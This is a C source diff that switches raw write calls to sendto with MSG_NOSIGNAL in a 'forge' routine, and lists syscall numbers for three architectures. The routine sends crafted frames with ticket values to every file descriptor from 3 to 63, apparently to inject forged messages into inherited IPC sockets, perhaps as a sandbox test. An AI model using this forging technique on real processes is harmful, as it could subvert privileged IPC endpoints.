@@ -47,15 +47,15 @@ static word call_system(word number, word a, word b, word c, word d, word e, wor
 #if defined(__x86_64__)
 enum { kMmap = 9, kGetuid = 102, kOpen = 257, kSocket = 41, kExitGroup = 231, kTgkill = 234,
        kFcntl = 72, kGetpid = 39, kGettid = 186,
-       kRecvmsg = 47, kWrite = 1, kMprotect = 10, kMremap = 25, kFutex = 202 };
+       kRecvmsg = 47, kSendto = 44, kMprotect = 10, kMremap = 25, kFutex = 202 };
 #elif defined(__aarch64__)
 enum { kMmap = 222, kGetuid = 174, kOpen = 56, kSocket = 198, kExitGroup = 94, kTgkill = 131,
        kFcntl = 25, kGetpid = 172, kGettid = 178,
-       kRecvmsg = 212, kWrite = 64, kMprotect = 226, kMremap = 216, kFutex = 98 };
+       kRecvmsg = 212, kSendto = 206, kMprotect = 226, kMremap = 216, kFutex = 98 };
 #else
 enum { kMmap = 192 /* mmap2 */, kGetuid = 199, kOpen = 322, kSocket = 281, kExitGroup = 248,
        kTgkill = 268, kFcntl = 221 /* fcntl64 */, kGetpid = 20, kGettid = 224,
-       kRecvmsg = 297, kWrite = 4, kMprotect = 125, kMremap = 163, kFutex = 240 };
+       kRecvmsg = 297, kSendto = 290, kMprotect = 125, kMremap = 163, kFutex = 240 };
 #endif
 
 static word map_memory(word bytes) {
@@ -82,7 +82,7 @@ static void forge(void) {
   for (word fd = 3; fd < 64; ++fd) {
     for (unsigned char ticket = 1; ticket < 4; ++ticket) {
       frame[5] = ticket;
-      call_system(kWrite, fd, (word)frame, sizeof frame, 0, 0, 0);
+      call_system(kSendto, fd, (word)frame, sizeof frame, 0x4000 /* NOSIGNAL */, 0, 0);
     }
   }
 }
